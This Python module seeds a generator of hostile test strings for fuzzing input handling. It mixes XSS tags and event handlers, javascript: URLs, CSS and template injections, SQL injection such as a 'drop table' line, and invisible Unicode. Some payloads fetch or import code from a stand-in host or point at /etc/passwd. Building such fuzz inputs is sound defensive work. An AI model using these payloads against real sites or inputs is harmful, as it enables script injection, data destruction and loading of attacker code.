"""Hostile texts by a seed: pieces of markup, scripts, addresses and unseen characters, put together at random."""

import random
from collections.abc import Callable, Sequence

QUOTES = ('"', "'", "`", "", "“", "”", "‘", "«", '\\"', "&quot;", "&#39;", "\"'", "\u02ba", "\uff02")
ELEMENTS = (
    "script", "img", "svg", "math", "style", "iframe", "object", "embed", "template", "noscript", "textarea", "title",
    "select", "option", "form", "input", "button", "base", "meta", "link", "a", "b", "table", "tr", "td", "body",
    "html", "frameset", "plaintext", "xmp", "listing", "noembed", "noframes", "details", "dialog", "video", "audio",
    "slot", "x-own", "marquee", "isindex", "li", "p", "h1", "bdi", "legend", "fieldset", "output", "portal", "image",
    "keygen",
)  # fmt: skip
FOREIGN = (
    "math", "mtext", "mglyph", "malignmark", "annotation-xml", "ms", "mi", "svg", "foreignObject", "desc", "title",
    "use", "animate", "set", "image", "script", "style", "noscript", "template", "table", "caption", "select",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationend",
    "onpointerdown", "oncut", "onbeforetoggle", "onsubmit",
)  # fmt: skip
ATTRIBUTES = (
    "href", "src", "srcdoc", "style", "action", "formaction", "data-action", "id", "name", "autofocus", "class",
    "data", "xlink:href", "background", "poster", "is", "slot", "popovertarget", "http-equiv", "target", "type",
    "value",
)  # fmt: skip
CALLS = (
    "alert(1)",
    "alert`1`",
    "top.alert(1)",
    "import('//x.example')",
    "location='//x.example'",
    "fetch('//x.example')",
)
BREAKS = (
    "-->", "--!>", "<!--", "<!", "<?", "]]>", "<![CDATA[", "/*", "*/", "//", "\\", "<", ">", "</", "/>", "=", ";",
    "</script>", "</title>", "</textarea>", "</style>", "</p>", "</form>", "</div>", "</template>", "</noscript>",
    "</select>", "</h1>", "</bdi>", "</button>", "<!doctype html>", "\x00", "\x0b", "\x0c", "\x1b[2J", "\x1b]0;x\x07",
)  # fmt: skip
ENTITIES = (
    "&lt;", "&LT", "&gt;", "&amp;", "&amp;lt;", "&#60;", "&#x3c;", "&#0060", "&#x0000003C", "&quot;", "&apos;",
    "&#0;", "&#x110000;", "&#xD800;", "&#128;", "&nbsp;", "&Tab;", "&NewLine;", "&colon;", "&lpar;", "&not;in;", "&",
    "&#", "&x",
)  # fmt: skip
TEMPLATES = (
    "{{ w }}", "{{ 7*7 }}", "{{ bill.__class__.__mro__ }}", "{% include 'x' %}", "{% raw %}", "{% endif %}", "{# x",
    "#}", "${n}", "$name", "$", "$$", "${", "${name}${n}", "%s", "%(name)s", "%n", "{0}", "{name!r:>9}", "#{7*7}",
    "<%= 7*7 %>", "`${7*7}`", "@{x}", "[[x]]", "*{x}", "__proto__", "constructor", "__class__", "toString",
)  # fmt: skip
URLS = (
    "javascript:{call}", "JaVaScRiPt:{call}", "java\tscript:{call}", "java\nscript:{call}", " javascript:{call}",
    "\x01javascript:{call}", "javascript&colon;{call}", "&#106;avascript:{call}", "vbscript:{call}",
    "data:text/html,<script>{call}</script>", "//x.example/{call}", "https:x.example", "\\\\x.example\\c$",
    "blob:null", "about:srcdoc", "file:///etc/passwd", "#coverage=insured", "?a=1#b", "../../", "..%2f", "%00",
)  # fmt: skip
STYLES = (
    "}}*{{background:url(//x.example)}}", "x:expression({call})", "position:fixed;inset:0", "@import '//x.example';",
    "behavior:url(x)", "-moz-binding:url(x)", "\\3c script\\3e", "url(javascript:{call})", "</style><b>",
    "content:'\\\"'", "--x:{call}", "color:red !important",
)  # fmt: skip
SCRIPTS = (
    "';{call}//", '";{call}//', "`;{call}//", "\\';{call}//", "-{call}-", "\\u003cscript\\u003e{call}", "\\x3cb\\x3e",
    "*/{call}/*", "${{{call}}}", "</script><script>{call}</script>", "\u2028{call}//", "<!--{call}\n-->",
    "0 or 1=1 --", "'; drop table bills; --", '{{"name": "erase-all"}}', "\\", "\\u0000", "\\ud800",
)  # fmt: skip
UNSEEN = (
    *map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0, 5)), "\u00a0", "\u00ad", "\u034f", "\u061c", "\u115f",
    "\u1680", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b",
    "\u202d", "\u202e", "\u202c", "\u2060", "\u2066", "\u2067", "\u2068", "\u2069", "\u206a", "\u2800", "\u3000",
    "\u3164", "\ufe0f", "\ufeff", "\uffa0", "\ufff9", "\ufffb", "\ufffd", "\ufffe", "\uffff", "\U000e0001",
    "\U000e0041", "\U0010ffff",
)  # fmt: skip
LETTERS = (
    "Mercy", "№1", "é", "e\u0301", "İ", "ı", "ß", "ﬃ", "Ω", "Клиника", "医院", "مستشفى", "בית חולים", "ศิริราช",
    "ਹਸਪਤਾਲ", "🙂", "👩‍👩‍👧", "🏳️‍🌈", "𝕄𝕖𝕣𝕔𝕪", "𐎀", "＜b＞", "﹤b﹥", "‹b›", "٤٢", "Ⅷ", "ﷺ",
)  # fmt: skip
BLANKS = ("", "", " ", "  ", "\t", "\n", "\r\n", "\r", "\x0c", "\u00a0", "/", "\x00")
LONGEST = 90  # most texts fit the field of a name; one in a hundred is far longer


class Dice(random.Random):
    """Makes one hostile text after another; the same seed makes the same texts."""

    def text(self) -> str:
        """A few pieces of any kind, now and then cut in the middle or very long."""
        pieces = [self.choice(PIECES)(self) for _ in range(self.choice((1, 1, 1, 2, 2, 3)))]
        text = self.choice(BLANKS).join(pieces)
        if self.random() < 0.01:
            return (text * 40)[: self.randrange(200, 2_000)]
        return text[: self.randrange(10, LONGEST) if self.random() < 0.3 else LONGEST]

    def call(self, text: str) -> str:
        """The text with a call where it has a place for one."""
        return text.format(call=self.choice(CALLS))

    def tag(self) -> str:
        """A start tag with attributes; its quotes and its end may be missing."""
        words = [self.choice(("<", "<", "<", "< ", "</", "<\x00", "＜"))]
        words.append(self.choice((str.lower, str.upper, str.title))(self.choice(ELEMENTS)))
        between = (" ", "/", "\t", "\n", "\x0c", "\x00", " /")
        words += [self.choice(between) + self.attribute() for _ in range(self.choice((0, 1, 1, 2)))]
        return "".join(words) + self.choice((">", ">", ">", "", "/>", " ", "\n", "<"))

    def attribute(self) -> str:
        """A name with a value in some kind of quotes."""
        before = self.choice(QUOTES)
        after = self.choice(QUOTES) if self.random() < 0.3 else before
        if self.random() < 0.5:
            name, value = self.choice(EVENTS), self.choice(CALLS)
        else:
            name, value = self.choice(ATTRIBUTES), self.call(self.choice((*URLS, *STYLES)))
        return f"{name}{self.choice(('=', '=', ' = ', '', '=\x00'))}{before}{value}{after}"

    def out(self) -> str:
        """Out of an attribute or an element first, then markup."""
        return self.choice(QUOTES) + self.choice((">", " ", "/>", "/", "")) + self.choice((self.tag, self.attribute))()

    def nest(self) -> str:
        """Elements that parsers move: foreign content, tables, raw text; some with an attribute that looks closed."""
        names = self.choices(FOREIGN, k=self.randrange(2, 6))
        inside = self.choice((self.tag(), f"<img title={self.choice(QUOTES)}{self.choice(BREAKS)}{self.tag()}"))
        return "".join(f"<{name}>" for name in names) + self.choice((inside, f"<!--</{names[-1]}>{inside}-->"))

    def stack(self) -> str:
        """A letter below many marks."""
        marks = [chr(self.randrange(0x300, 0x36F)) for _ in range(self.randrange(5, 90))]
        return self.choice(("a", "ก", "<")) + "".join(marks)

    def hidden(self) -> str:
        """Characters nobody sees, alone or within a word or a tag."""
        some = "".join(self.choices(UNSEEN, k=self.randrange(1, 6)))
        return self.choice((some, f"Mer{some}cy", f"<{some}script>", f"<b{some}>", f"{some}\u202e>b<"))

    def long(self) -> str:
        """A word without a place to break it."""
        return self.choice(("W", "é", "医", "i", "_", "🙂", "\u00a0", "</b>")) * self.randrange(20, 100)


PIECES: Sequence[Callable[[Dice], str]] = (
    Dice.tag,
    Dice.tag,
    Dice.out,
    Dice.out,
    Dice.attribute,
    Dice.nest,
    Dice.nest,
    Dice.hidden,
    Dice.stack,
    Dice.long,
    lambda dice: dice.choice(BREAKS),
    lambda dice: dice.choice(ENTITIES),
    lambda dice: dice.choice(TEMPLATES),
    lambda dice: dice.choice(LETTERS),
    lambda dice: dice.call(dice.choice(URLS)),
    lambda dice: dice.call(dice.choice(STYLES)),
    lambda dice: dice.call(dice.choice(SCRIPTS)),
)


def hostile_texts(count: int, seed: int = 8) -> Sequence[str]:
    """So many different texts."""
    dice = Dice(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        found[dice.text()] = None
    return tuple(found)


def half_texts(count: int, seed: int = 8) -> Sequence[str]:
    """Texts with half a character, which no file can hold."""
    dice = Dice(seed)
    halves = [chr(dice.randrange(0xD800, 0xDC00)) for _ in range(count)]
    return tuple(f"{text[:9]}{half}x{text[9:]}" for text, half in zip(hostile_texts(count, seed), halves, strict=True))
